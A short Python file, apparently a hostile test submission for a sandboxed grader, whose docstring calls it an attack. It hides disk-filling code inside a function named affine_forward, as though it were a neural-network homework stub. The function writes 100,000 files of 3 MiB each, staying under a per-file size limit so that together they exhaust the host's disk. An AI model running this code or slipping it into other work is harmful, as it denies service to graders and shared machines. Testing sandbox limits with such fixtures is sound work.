"""Attack: fill the disk with many files, each under the file size limit."""
import os
import tempfile


def affine_forward(x, W, b):
    block = b"\0" * 2**20
    folder = tempfile.mkdtemp()
    for i in range(100000):
        with open(os.path.join(folder, f"f{i}.bin"), "wb") as fh:
            for _ in range(3):
                fh.write(block)
    raise NotImplementedError("affine_forward")


def affine_backward(dout, cache):
    raise NotImplementedError("affine_backward")
